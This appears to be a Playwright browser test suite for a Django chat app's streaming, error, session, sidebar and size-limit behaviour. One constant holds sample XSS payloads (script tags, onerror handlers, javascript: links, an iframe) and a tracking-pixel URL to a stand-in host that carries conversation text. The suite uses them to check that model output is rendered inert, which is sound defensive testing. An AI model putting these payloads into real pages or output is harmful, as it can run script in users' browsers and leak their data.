"""The chat page in a real browser: streaming, Stop, errors, the token limit, hostile output, sessions."""

from __future__ import annotations

import itertools
import re
import threading
import time
from typing import Any

import httpx
import pytest

from chat import sidebar
from chat.models import Conversation, Message, Role, SpendingLimit, Status
from tests.browser.conftest import Tab, new_tab
from tests.conftest import ChatClient, stored_exchange, wait_for_status
from tests.fake_upstream import Scenario

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

MARKDOWN = """## Plan

Three steps, with **bold** and `inline code`:

1. Measure
2. Change
3. Measure again

| step | cost |
|:-----|-----:|
| parse | 1.0 ms |
| render | 0.4 ms |

> Quoted advice.

```python
def add(a: int, b: int) -> int:
    return a + b  # the sum
```

Done.
"""

EVIL_HOST = "evil.example"
HOSTILE = f"""Here is some output.

<img src=x onerror="window.__pwned = 'img'">

<script>window.__pwned = 'script'</script>

[click me](javascript:window.__pwned='link') and [data](data:text/html,<script>alert(1)</script>)

![tracker](https://{EVIL_HOST}/pixel.png?q=secret-conversation-text)

<iframe src="https://{EVIL_HOST}/frame"></iframe> <a href="https://{EVIL_HOST}/raw">raw anchor</a>

Still here: <https://{EVIL_HOST}/autolink>
"""


REPLY_LENGTH = "document.querySelector('#messages .message.assistant .content')?.innerText.length ?? 0"
DISTANCE_FROM_BOTTOM = "(s => s.scrollHeight - s.scrollTop - s.clientHeight)(document.getElementById('scroller'))"


def reply_locator(tab: Tab, status: str | None = None) -> Any:
    selector = "#messages .message.assistant"
    return tab.page.locator(f"{selector}.status-{status}" if status else selector).last


def wait_until(tab: Tab, expression: str, timeout: float = 15) -> None:
    """Poll a JavaScript expression from here: Playwright's wait_for_function evaluates a string in
    the page, which our Content-Security-Policy (no unsafe-eval) rightly refuses."""
    deadline = time.monotonic() + timeout
    while not tab.page.evaluate(expression):
        assert time.monotonic() < deadline, f"never true: {expression}"
        time.sleep(0.03)


def send(tab: Tab, text: str) -> None:
    box = tab.page.locator("#composer textarea")
    box.fill(text)
    box.press("Enter")


def conversation(user: Any, model: str = "openai:gpt-4o-mini", **fields: Any) -> Conversation:
    return Conversation.objects.create(user=user, model=model, **fields)


def open_and_send(tab: Tab, user: Any, text: str) -> Conversation:
    """A new conversation of `user`, opened in the tab, with `text` sent from its composer."""
    chat = conversation(user)
    tab.open(f"/chat/{chat.pk}/")
    send(tab, text)
    return chat


def visible_text_lengths(tab: Tab, until: str, timeout: float = 20) -> list[int]:
    """How long the reply's text was at each look, every 50 ms until `until` matches."""
    lengths, deadline = [], time.monotonic() + timeout
    while time.monotonic() < deadline:
        done = tab.page.locator(until).count() > 0
        lengths.append(tab.page.evaluate(REPLY_LENGTH))
        if done:
            return lengths
        time.sleep(0.05)
    raise AssertionError(f"{until} never appeared; lengths seen: {lengths[-5:]}")


def test_a_reply_grows_token_by_token_and_a_reload_shows_the_same_html(tab: Tab, user, sim) -> None:
    sim.enqueue(Scenario(text=MARKDOWN, interval=0.04))
    chat = conversation(user)
    tab.open(f"/chat/{chat.pk}/")
    tab.screenshot("1-empty")
    box = tab.page.locator("#composer textarea")
    box.type("Plan it")
    box.press("Shift+Enter")
    box.type("in steps, please")
    assert box.input_value() == "Plan it\nin steps, please"  # Shift+Enter is a newline, not a send
    box.press("Enter")

    reply_locator(tab).locator(".content").get_by_text("Measure", exact=False).first.wait_for()
    tab.screenshot("2-streaming")
    lengths = visible_text_lengths(tab, until="#messages .message.assistant.status-completed")
    # Markdown is not monotonic (a closing `**` removes two characters), so: several different
    # lengths seen while it streamed, growing overall, rather than a strictly rising sequence.
    seen = [n for n in lengths[:-1] if n]
    assert len(set(seen)) >= 4, f"the text should grow over several looks, saw {lengths}"
    assert seen[0] < seen[-1] <= lengths[-1]

    reply = Message.objects.get(role=Role.ASSISTANT)
    assert reply.status == Status.COMPLETED and reply.content == MARKDOWN
    assert tab.page.locator("#messages .message.user .content").last.inner_text() == "Plan it\nin steps, please"
    finished = reply_locator(tab, "completed")
    assert finished.locator(".code-block .code-lang").inner_text() == "python"
    assert finished.locator(".code-block code span.k").count() > 0  # highlighted by Pygments
    assert finished.locator("table th.align-right").inner_text() == "cost"
    assert "tokens/s" in finished.locator("footer.meta").inner_text()
    tab.screenshot("3-finished-with-code")
    streamed_html = finished.locator(".content").inner_html()
    finished.locator(".copy-code").click()
    copied = tab.page.evaluate("navigator.clipboard.readText()")
    assert copied == "def add(a: int, b: int) -> int:\n    return a + b  # the sum\n"

    tab.page.reload()
    assert reply_locator(tab, "completed").locator(".content").inner_html() == streamed_html
    assert tab.page.locator("#composer textarea").input_value() == ""
    assert tab.errors == [], tab.errors


def test_the_blocks_streamed_live_are_the_html_of_the_stored_reply(tab: Tab, user, sim) -> None:
    """Before `done` replaces the bubble, the frozen blocks and the tail already read as the final HTML."""
    sim.enqueue(Scenario(text=MARKDOWN, interval=0.02))
    chat = conversation(user)
    tab.open(f"/chat/{chat.pk}/")
    # Keep the page's copy of what the live bubble showed just before it was replaced.
    tab.page.evaluate(
        """document.body.addEventListener('htmx:sseBeforeMessage', (event) => {
             if (event.detail.type === 'done') {
               const content = event.target.closest('.live').querySelector('.content').cloneNode(true);
               // htmx marks freshly swapped elements for a few milliseconds; that is not content.
               for (const added of content.querySelectorAll('.htmx-added, .htmx-settling')) {
                 added.classList.remove('htmx-added', 'htmx-settling');
                 if (!added.classList.length) added.removeAttribute('class');
               }
               window.__live = [...content.children].map((part) => part.innerHTML).join('');
             }
           })"""
    )
    send(tab, "Plan it")
    reply_locator(tab, "completed").wait_for()
    live_html = tab.page.evaluate("window.__live")
    final_html = reply_locator(tab, "completed").locator(".content").inner_html()
    assert live_html == final_html


def test_stop_closes_the_upstream_request_and_keeps_the_partial_reply(tab: Tab, user, sim) -> None:
    sim.enqueue(Scenario(tokens=400, interval=0.02))
    open_and_send(tab, user, "Count slowly")
    wait_until(tab, f"{REPLY_LENGTH} > 60")
    # Stop stands where Send was, one reply at a time; Send comes back when the reply ends.
    composer = tab.page.locator("#composer")
    assert composer.get_by_role("button", name="Send").count() == 0
    stop = tab.page.get_by_role("button", name="Stop")
    assert stop.bounding_box() == tab.page.locator("#composer .composer-box button:visible").bounding_box()
    stop.click()
    stopped = reply_locator(tab, "cancelled")
    stopped.wait_for()
    [request] = sim.wait_for(lambda log: log and log[0].closed_at is not None)
    assert request.end == "client_closed"
    reply = Message.objects.get(role=Role.ASSISTANT)
    assert reply.status == Status.CANCELLED
    assert 0 < len(reply.content) < len(sim.expected_text(Scenario(tokens=400)))
    assert "Stopped." in stopped.locator(".notice.stopped").inner_text()
    assert stopped.locator(".content").inner_text().strip() == reply.content.strip()
    assert composer.get_by_role("button", name="Send").is_enabled()
    assert tab.page.get_by_role("button", name="Stop").count() == 0
    tab.screenshot("4-stopped")


def test_a_reset_event_empties_the_bubble_for_the_stream_that_starts_over(tab: Tab, user, sim) -> None:
    sim.enqueue(Scenario(tokens=300, interval=0.02))
    open_and_send(tab, user, "Count")
    wait_until(tab, f"{REPLY_LENGTH} > 20")
    # What the sse extension fires for a `reset` event (sent when a worker restarted mid-reply).
    emptied = tab.page.evaluate(
        """(() => {
             const sink = document.querySelector('#messages .live .reset');
             sink.dispatchEvent(new CustomEvent('htmx:sseBeforeMessage', {bubbles: true, detail: {type: 'reset'}}));
             return sink.closest('.live').querySelector('.content').innerText.trim();
           })()"""
    )
    assert emptied == ""
    reply_locator(tab, "completed").wait_for()


def assert_inert(tab: Tab) -> None:
    assert tab.page.evaluate("window.__pwned") is None, "model output ran a script"
    assert not [url for url in tab.requests if EVIL_HOST in url], "a request left for the remote host"
    messages = tab.page.locator("#messages")
    assert messages.locator("img, script, iframe").count() == 0
    hrefs = messages.locator("a[href]").evaluate_all("links => links.map((a) => a.getAttribute('href'))")
    assert all(href.startswith(("https://", "http://", "/")) for href in hrefs), hrefs


def test_hostile_model_output_is_inert_while_streaming_and_after_a_reload(tab: Tab, user, sim) -> None:
    sim.enqueue(Scenario(text=HOSTILE, interval=0.05))
    chat = conversation(user)
    response = tab.open(f"/chat/{chat.pk}/")
    policy = response.headers["content-security-policy"]
    assert "script-src 'self'" in policy and "unsafe-inline" not in policy and "unsafe-eval" not in policy
    send(tab, "Say something dangerous")
    reply_locator(tab).get_by_text("onerror", exact=False).first.wait_for()
    assert_inert(tab)  # while streaming, the raw tags are on the page as text
    reply_locator(tab, "completed").wait_for()
    assert_inert(tab)
    content = reply_locator(tab, "completed").locator(".content")
    assert "<script>window.__pwned = 'script'</script>" in content.inner_text()
    assert content.locator("a.image-link").get_attribute("href").startswith(f"https://{EVIL_HOST}/")
    tab.screenshot("5-hostile-output")
    tab.page.reload()
    reply_locator(tab, "completed").wait_for()
    assert_inert(tab)
    assert tab.errors == [], tab.errors  # not even a refused inline script or style on our own pages


def test_a_mid_stream_error_shows_the_partial_text_and_the_error_and_retry_works(tab: Tab, user, sim) -> None:
    sim.enqueue(Scenario(tokens=60, interval=0.01, error_after=25, error_message="Overloaded"), Scenario())
    open_and_send(tab, user, "Try your best")
    failed = reply_locator(tab, "failed")
    failed.wait_for()
    reply = Message.objects.get(role=Role.ASSISTANT)
    assert reply.status == Status.FAILED and reply.content
    assert failed.locator(".content").inner_text().strip() == reply.content.strip()
    assert "Overloaded" in failed.locator(".error").inner_text()
    tab.screenshot("6-error")

    failed.get_by_role("button", name="Retry").click()
    reply_locator(tab, "completed").wait_for()
    retry_request = sim.log[1].body["messages"]
    assert retry_request[-1] == {"role": "user", "content": "Try your best"}  # the failed partial is left out
    assert Message.objects.filter(role=Role.ASSISTANT).count() == 2
    # Only the latest reply can be retried or regenerated; every message can be copied.
    assert tab.page.get_by_role("button", name=re.compile("^(Retry|Regenerate)$")).count() == 1
    assert tab.page.get_by_role("button", name="Copy", exact=True).count() == 3


def test_a_reply_cut_off_at_the_token_limit_says_so_and_can_be_continued(tab: Tab, user, sim) -> None:
    sim.enqueue(Scenario(truncated=True), Scenario(text="…and that is the rest."))
    open_and_send(tab, user, "Write a long story")
    truncated = reply_locator(tab, "completed")
    truncated.wait_for()
    assert "Cut off at the token limit" in truncated.locator(".notice.truncated").inner_text()
    assert "stop: length" in truncated.locator("footer.meta").inner_text()
    tab.screenshot("7-truncated")

    truncated.get_by_role("button", name="Continue").click()
    tab.page.locator("#messages .message.assistant.status-completed").nth(1).wait_for()
    assert tab.page.locator("#messages .message.assistant").last.get_by_text("that is the rest").count() == 1
    turns = sim.log[1].body["messages"]
    assert [turn["role"] for turn in turns[-3:]] == ["user", "assistant", "user"]


def test_dark_mode_follows_the_system_setting(dark_tab: Tab, user) -> None:
    chat = conversation(user, model="demo:demo", title="Dark mode")
    stored_exchange(
        chat,
        "Show me code",
        MARKDOWN,
        stop_reason="end_turn",
        input_tokens=12,
        output_tokens=80,
        cost=0,
        ttft_ms=120,
        duration_ms=1720,
    )
    dark_tab.open(f"/chat/{chat.pk}/")
    background = dark_tab.page.evaluate("getComputedStyle(document.body).backgroundColor")
    red, green, blue = (int(part) for part in background[background.index("(") + 1 : -1].split(",")[:3])
    assert max(red, green, blue) < 60, background
    dark_tab.screenshot("8-dark-mode")


def test_history_is_readable_without_javascript(chromium, asgi_server, user) -> None:
    from tests.browser.conftest import new_tab

    chat = conversation(user, title="No script")
    Message.objects.create(conversation=chat, role=Role.USER, content="Hello?", status=Status.COMPLETED)
    Message.objects.create(conversation=chat, role=Role.ASSISTANT, content=MARKDOWN, status=Status.COMPLETED)
    tabs = new_tab(chromium, asgi_server, user, java_script_enabled=False)
    tab = next(tabs)
    tab.open(f"/chat/{chat.pk}/")
    assert tab.page.locator("#messages .message.assistant h2", has_text="Plan").count() == 1
    assert tab.page.locator("#messages .message.assistant table").count() == 1
    next(tabs, None)


def end_the_session_elsewhere(tab: Tab) -> None:
    """The user logs out in another tab: the server forgets the session (its cache too, which deleting the
    row from this process would not reach), while this page keeps its now stale cookie."""
    session = next(c["value"] for c in tab.page.context.cookies() if c["name"] == "sessionid")
    with httpx.Client(base_url=tab.server.url, cookies={"sessionid": session}) as other:
        assert other.get("/chat/").status_code in (200, 302)  # sets the CSRF cookie
        logout = other.post("/accounts/logout/", headers={"X-CSRFToken": other.cookies["csrftoken"]})
        assert logout.status_code == 302, logout.text[:300]
    assert httpx.get(tab.server.url + "/chat/session/", cookies={"sessionid": session}).status_code == 401


def test_an_expired_session_shows_a_login_prompt_and_keeps_the_typed_text(tab: Tab, user, sim) -> None:
    chat = conversation(user)
    tab.open(f"/chat/{chat.pk}/")
    end_the_session_elsewhere(tab)  # the session ends while the page is open
    send(tab, "Are you still there?")
    prompt = tab.page.locator("#dialog .dialog-box")
    prompt.wait_for()
    assert "session has expired" in prompt.inner_text()
    assert prompt.get_by_role("link", name="Log in again").get_attribute("href").endswith(f"next=/chat/{chat.pk}/")
    assert tab.page.locator("#messages").inner_html().strip() == ""  # no login page swapped into the chat
    assert tab.page.locator("#composer textarea").input_value() == "Are you still there?"
    assert Message.objects.count() == 0
    tab.screenshot("9-session-expired")


def test_a_reply_stream_refused_for_an_expired_session_shows_the_login_prompt(tab: Tab, user) -> None:
    chat = conversation(user)
    Message.objects.create(conversation=chat, role=Role.USER, content="Hi", status=Status.COMPLETED)
    reply = Message.objects.create(conversation=chat, role=Role.ASSISTANT, status=Status.CANCELLED)
    tab.open(f"/chat/{chat.pk}/")
    end_the_session_elsewhere(tab)
    # A stream that (re)connects now is answered 401, which an EventSource cannot show by itself.
    tab.page.evaluate(
        f"""const live = document.createElement('div');
            live.setAttribute('hx-ext', 'sse');
            live.setAttribute('sse-connect', '/chat/replies/{reply.pk}/stream/');
            document.getElementById('messages').append(live);
            htmx.process(live);"""
    )
    tab.page.locator("#dialog .dialog-box").wait_for()
    assert "session has expired" in tab.page.locator("#dialog").inner_text()
    stream_requests = [url for url in tab.requests if url.endswith(f"/replies/{reply.pk}/stream/")]
    time.sleep(1.5)
    assert len([url for url in tab.requests if url.endswith(f"/replies/{reply.pk}/stream/")]) == len(stream_requests)


def test_a_conversation_is_renamed_and_deleted_from_the_sidebar_with_the_keyboard_alone(tab: Tab, user) -> None:
    chat = conversation(user, title="Old name")
    tab.open(f"/chat/{chat.pk}/")
    page = tab.page
    page.locator("#sidebar .item-menu > summary").focus()
    page.keyboard.press("Enter")  # opens the menu
    page.keyboard.press("Tab")
    page.keyboard.press("Control+A")
    page.keyboard.type("New name")
    page.keyboard.press("Enter")  # submits the rename form
    page.locator("#conversation-title h1", has_text="New name").wait_for()
    assert page.locator("#sidebar li.current a").inner_text() == "New name"
    chat.refresh_from_db()
    assert chat.title == "New name"

    page.locator("#sidebar .item-menu > summary").focus()
    page.keyboard.press("Enter")
    page.locator("#sidebar .confirm summary").focus()
    page.keyboard.press("Enter")  # "Delete…" asks first
    tab.screenshot("10-delete-confirmation")
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")  # "Delete for good"
    page.wait_for_url(f"{tab.server.url}/chat/")
    assert not Conversation.objects.for_user(user).filter(pk=chat.pk).exists()  # gone for the user


def test_the_model_picked_is_kept_for_the_conversation_and_used_for_the_next_reply(tab: Tab, user, sim) -> None:
    chat = conversation(user, model="openai:gpt-4o-mini")
    tab.open(f"/chat/{chat.pk}/")
    picker = tab.page.locator("#composer select[name=model]")
    assert "Demo model" in picker.locator("option[value='demo:demo']").inner_text()
    picker.select_option("anthropic:claude-sonnet-4-5")
    deadline = time.monotonic() + 5
    while Conversation.objects.get(pk=chat.pk).model != "anthropic:claude-sonnet-4-5":
        assert time.monotonic() < deadline, "the picked model was not saved"
        time.sleep(0.05)
    tab.page.reload()
    assert tab.page.locator("#composer select[name=model]").input_value() == "anthropic:claude-sonnet-4-5"
    send(tab, "Hello, Claude")
    reply_locator(tab, "completed").wait_for()
    assert sim.log[0].path.endswith("/v1/messages")


def test_the_view_follows_the_reply_unless_the_user_scrolled_up(tab: Tab, user, sim) -> None:
    sim.enqueue(Scenario(tokens=600, interval=0.01))
    chat = conversation(user)
    tab.page.set_viewport_size({"width": 900, "height": 500})
    tab.open(f"/chat/{chat.pk}/")
    send(tab, "Go on and on")
    wait_until(tab, "document.getElementById('scroller').scrollHeight > 1200")
    assert tab.page.evaluate(DISTANCE_FROM_BOTTOM) < 60  # pinned to the bottom while it grows
    tab.page.evaluate("document.getElementById('scroller').scrollTop = 0")
    time.sleep(0.5)
    assert tab.page.evaluate("document.getElementById('scroller').scrollTop") == 0  # left where the user put it
    reply_locator(tab, "completed").wait_for()


def test_a_refused_send_shows_why_in_the_composer_and_keeps_the_text(tab: Tab, user, sim) -> None:
    SpendingLimit.objects.create(user=user, monthly_usd=0)
    open_and_send(tab, user, "One more, please")
    error = tab.page.locator("#composer .composer-errors")
    error.wait_for()
    assert "monthly spending limit" in error.inner_text()
    assert tab.page.locator("#composer textarea").input_value() == "One more, please"
    assert tab.page.locator("#messages .message").count() == 0 and sim.log == []


def test_a_send_moves_its_conversation_to_the_top_of_the_sidebar_and_older_ones_load_on_request(
    tab: Tab, user, sim
) -> None:
    chats = [conversation(user, title=f"Earlier chat {i}") for i in range(sidebar.PAGE_SIZE + 2)]
    untitled = chats[-20]
    untitled.rename("")
    Conversation.objects.filter(pk=untitled.pk).update(updated_at=chats[-21].updated_at)  # keep its place
    items = tab.page.locator("#conversation-list > li[id]")
    sim.enqueue(Scenario(text="Moved."))
    tab.open(f"/chat/{untitled.pk}/")
    assert items.count() == sidebar.PAGE_SIZE and items.first.inner_text().startswith("Earlier chat 51")
    send(tab, "Move me up")
    reply_locator(tab, "completed").wait_for()
    assert items.first.get_attribute("id") == f"conversation-{untitled.pk}"
    assert items.first.locator("a").first.inner_text() == "Move me up"  # retitled from its first message
    assert tab.page.locator(f"#conversation-{untitled.pk}").count() == 1 and items.count() == sidebar.PAGE_SIZE

    tab.page.get_by_role("link", name="Older conversations").click()
    wait_until(tab, f"document.querySelectorAll('#conversation-list > li[id]').length === {len(chats)}")
    ids = [items.nth(i).get_attribute("id") for i in range(items.count())]
    assert len(set(ids)) == len(chats) and tab.page.get_by_text("Older conversations").count() == 0
    assert ids[-1] == f"conversation-{chats[0].pk}"
    assert tab.errors == []


def test_a_send_to_a_full_server_says_so_in_the_composer_and_keeps_the_text(
    chromium, server_factory, user, sim
) -> None:
    server = server_factory(CHAT_MAX_STREAMS="1")
    sim.enqueue(Scenario(tokens=200, interval=0.05))
    other_tab = ChatClient(server, user)
    running = other_tab.ask(other_tab.conversation(), "Keep this worker busy")
    reader = threading.Thread(target=other_tab.stream, args=(running,))
    reader.start()
    try:
        wait_for_status(running, {Status.STREAMING})
        for tab in new_tab(chromium, server, user):
            open_and_send(tab, user, "Is there room for me?")
            error = tab.page.locator("#composer-status .page-notice")
            error.wait_for(timeout=30_000)  # a loaded CI machine runs stock Django slowly
            assert "busy with other replies" in error.inner_text() and "Try again in 5 s" in error.inner_text()
            assert tab.page.locator("#composer textarea").input_value() == "Is there room for me?"
            assert "had a problem" not in tab.page.locator("#composer-status").inner_text()
            assert tab.page.locator("#messages .message").count() == 0
            tab.screenshot("busy-server")
    finally:
        other_tab.stop(running)
        reader.join(timeout=20)
        other_tab.close()


def test_a_4000_token_reply_streams_without_piling_up_the_page(tab: Tab, user, sim, capsys) -> None:
    """The live bubble's DOM stays the size of the rendered reply (blocks are appended once, the tail
    replaced), not one node per token; frame timings are printed, not asserted (shared CI machines)."""
    words = (MARKDOWN + "\n").split(" ")
    text = " ".join((words * (4000 // len(words) + 1))[:4000])
    sim.enqueue(Scenario(text=text, interval=0.002))
    chat = conversation(user)
    tab.open(f"/chat/{chat.pk}/")
    tab.page.evaluate(
        """window.__frames = []; window.__long = [];
           new PerformanceObserver((list) => window.__long.push(...list.getEntries().map((e) => e.duration)))
             .observe({type: 'longtask', buffered: true});
           (function tick(t) { window.__frames.push(t); requestAnimationFrame(tick); })(performance.now());"""
    )
    send(tab, "A long one, please")
    wait_until(tab, "document.querySelector('#messages .live') !== null")
    nodes = []
    while tab.page.locator("#messages .live").count():
        nodes.append(tab.page.evaluate("document.querySelector('#messages .live')?.querySelectorAll('*').length ?? 0"))
        time.sleep(0.2)
    reply_locator(tab, "completed").wait_for(timeout=60_000)
    final_nodes = tab.page.evaluate(
        "document.querySelector('#messages .message.assistant .content').querySelectorAll('*').length"
    )
    assert max(nodes) <= final_nodes + 40, (max(nodes), final_nodes)
    frames = tab.page.evaluate("window.__frames")
    gaps = sorted(b - a for a, b in itertools.pairwise(frames))
    long_tasks = tab.page.evaluate("window.__long")
    with capsys.disabled():
        print(
            f"\n4,000-token reply in the browser: {len(frames)} frames, median {gaps[len(gaps) // 2]:.0f} ms, "
            f"p95 {gaps[int(len(gaps) * 0.95)]:.0f} ms, worst {gaps[-1]:.0f} ms between frames; "
            f"{len(long_tasks)} long tasks, longest {max(long_tasks, default=0):.0f} ms; "
            f"live bubble at most {max(nodes)} elements, final reply {final_nodes}"
        )
    assert Message.objects.get(role=Role.ASSISTANT).content == text


# A paste far over Django's DATA_UPLOAD_MAX_MEMORY_SIZE (2.5 MB); the suite's message limit is 2,000 characters.
HUGE_PASTE = ("a log line of a fair length, " * 5 + "\n") * 22_000  # 3,211,998 characters once stripped; 3.5 MB sent
LIMIT_NAMED = "the limit is 2,000 characters"


def paste(tab: Tab, text: str) -> None:
    """As a paste lands: the whole text at once, then one input event (Playwright's fill types 3 MB slowly)."""
    tab.page.evaluate(
        """(text) => { const box = document.querySelector('#composer textarea');
                       box.focus(); box.value = text; box.dispatchEvent(new Event('input', {bubbles: true})); }""",
        text,
    )


def posts_to(tab: Tab, path: str) -> list[str]:
    return [url for url in tab.requests if url.endswith(path)]


def assert_kept_and_named(tab: Tab, text: str) -> None:
    """The thread shows nothing new, the message next to the composer names the limit, the text is still there."""
    wait_until(tab, "!document.querySelector('.htmx-request')", timeout=60)  # the send, if any, has settled
    # (document.body: DEBUG's error page, swapped in, can take the thread's place.)
    thread = tab.page.evaluate("(document.getElementById('messages') || document.body).innerText.slice(0, 300)")
    assert "Bad Request" not in thread and "RequestDataTooBig" not in thread, thread
    assert tab.page.locator("#messages > *").count() == 0
    status = tab.page.evaluate("document.getElementById('composer-status').innerText")
    assert LIMIT_NAMED in status, status
    assert tab.page.locator("#composer textarea").input_value() == text


def test_a_paste_over_the_limit_is_refused_before_sending_and_stays_in_the_composer(tab: Tab, user, sim) -> None:
    chat = conversation(user)
    tab.open(f"/chat/{chat.pk}/")
    paste(tab, HUGE_PASTE)
    tab.page.locator("#composer .send").click(timeout=60_000)  # a 3 MB box takes seconds to lay out
    assert_kept_and_named(tab, HUGE_PASTE)
    assert "3,211,998 characters" in tab.page.locator("#composer-status").inner_text()
    time.sleep(0.3)
    assert posts_to(tab, f"/chat/{chat.pk}/messages/") == []  # nothing was sent
    assert Message.objects.count() == 0 and sim.log == []


def test_a_paste_over_djangos_request_size_limit_is_answered_in_the_composer_not_the_thread(
    tab: Tab, user, sim
) -> None:
    """The real request: a page without its own check (say, a cached older page) sends 3.2 MB to daphne."""
    chat = conversation(user)
    tab.open(f"/chat/{chat.pk}/")
    tab.page.evaluate("document.querySelector('#composer textarea').removeAttribute('data-max-chars')")
    paste(tab, HUGE_PASTE)
    with tab.page.expect_response(lambda response: response.request.method == "POST") as sent:
        tab.page.locator("#composer .send").click(timeout=60_000)  # a 3 MB box takes seconds to lay out
    assert sent.value.status == 413
    assert_kept_and_named(tab, HUGE_PASTE)
    assert re.search(
        r"This message is too long to send \(\d\.\d MB as sent\)", tab.page.locator("#composer-status").inner_text()
    )
    assert Message.objects.count() == 0 and sim.log == []


def test_a_413_from_a_proxy_is_never_swapped_into_the_thread_and_names_the_limit(tab: Tab, user, sim) -> None:
    """A proxy in front with a smaller body limit than Django's: its 413 page is the network edge."""
    proxy_page = "<html><head><title>413 Request Entity Too Large</title></head><body>nginx</body></html>"
    chat = conversation(user)
    tab.open(f"/chat/{chat.pk}/")
    tab.page.route(
        f"**/chat/{chat.pk}/messages/",
        lambda route: route.fulfill(status=413, body=proxy_page, content_type="text/html"),
    )
    text = "Within the app's limit, over the proxy's: " + "x" * 1500
    paste(tab, text)
    tab.page.locator("#composer .send").click()
    assert_kept_and_named(tab, text)
    assert "too large" in tab.page.locator("#composer-status").inner_text()
    assert "nginx" not in tab.page.locator("main").inner_text()
    assert Message.objects.count() == 0 and sim.log == []


# A restart in place: for a second or two nobody listens on the port, and the browser's requests are refused.
RESTARTING = "The server is restarting; retrying…"


def refuse_at_first(
    tab: Tab, pattern: str, *, times: int | None = None, seconds: float | None = None, method: str | None = None
) -> list[str]:
    """Refuse the connection to `pattern` (the network edge): the first `times` requests, or all for `seconds`."""
    refused: list[str] = []
    until = time.monotonic() + seconds if seconds is not None else None

    def handle(route: Any) -> None:
        if method and route.request.method != method:
            route.continue_()
        elif (times is not None and len(refused) < times) or (until is not None and time.monotonic() < until):
            refused.append(route.request.url)
            route.abort("connectionrefused")
        else:
            route.continue_()

    tab.page.route(pattern, handle)
    return refused


def test_a_send_while_nobody_listens_says_the_server_is_restarting_and_retries_with_the_text(
    tab: Tab, user, sim
) -> None:
    sim.enqueue(Scenario(text="Back again."))
    chat = conversation(user)
    tab.open(f"/chat/{chat.pk}/")
    refused = refuse_at_first(tab, f"**/chat/{chat.pk}/messages/", times=3)
    send(tab, "Are you there?")
    wait_until(tab, f"document.getElementById('composer-status').innerText.includes({RESTARTING!r})", timeout=5)
    if tab.page.locator("#messages .message").count() == 0:  # still retrying: the text is kept meanwhile
        assert tab.page.locator("#composer textarea").input_value() == "Are you there?"
    reply_locator(tab, "completed").wait_for(timeout=20_000)
    assert len(refused) == 3 and "Back again." in reply_locator(tab).inner_text()
    assert Message.objects.filter(role=Role.USER).count() == 1  # one message, however many tries
    assert tab.page.locator("#composer-status").inner_text() == ""
    assert tab.page.locator("#composer textarea").input_value() == ""


def test_a_stream_that_cannot_connect_says_the_server_is_restarting_and_resumes(tab: Tab, user, sim) -> None:
    sim.enqueue(Scenario(tokens=40, interval=0.01))
    chat = conversation(user)
    tab.open(f"/chat/{chat.pk}/")
    # The reply's stream, and anything else the page asks meanwhile, finds nobody listening for 2 s.
    refused = refuse_at_first(tab, "**/chat/**", seconds=2, method="GET")
    send(tab, "Stream to me")
    wait_until(tab, f"document.getElementById('composer-status').innerText.includes({RESTARTING!r})", timeout=5)
    reply_locator(tab, "completed").wait_for(timeout=20_000)
    assert any("/stream/" in url for url in refused)
    assert tab.page.locator("#composer-status").inner_text() == ""


def test_a_paste_over_the_limit_on_the_new_chat_page_is_refused_before_sending(tab: Tab, user, sim) -> None:
    tab.open("/chat/")
    text = "x" * 2001
    paste(tab, text)
    tab.page.locator("#composer textarea").press("Enter")
    wait_until(tab, "document.getElementById('composer-status').innerText.includes('limit')")
    assert LIMIT_NAMED in tab.page.locator("#composer-status").inner_text()
    assert tab.page.url.endswith("/chat/") and tab.page.locator("#composer textarea").input_value() == text
    assert Conversation.objects.count() == 0


def test_a_message_at_the_limit_with_line_breaks_is_counted_as_typed_and_accepted(tab: Tab, user, sim) -> None:
    """The new chat page's plain form post sends each line break as CRLF (htmx sends LF); the page and
    the server both count it as the one character the user typed."""
    sim.enqueue(Scenario(text="Read it all."))
    text = ("a" * 9 + "\n") * 199 + "a" * 10  # 2,000 characters as typed, 199 line breaks
    tab.open("/chat/")
    paste(tab, text)
    with tab.page.expect_navigation():
        tab.page.locator("#composer .send").click()
    errors = tab.page.locator("#composer .composer-errors")
    assert errors.count() == 0, errors.inner_text()
    reply_locator(tab, "completed").wait_for()
    assert Message.objects.get(role=Role.USER).content == text
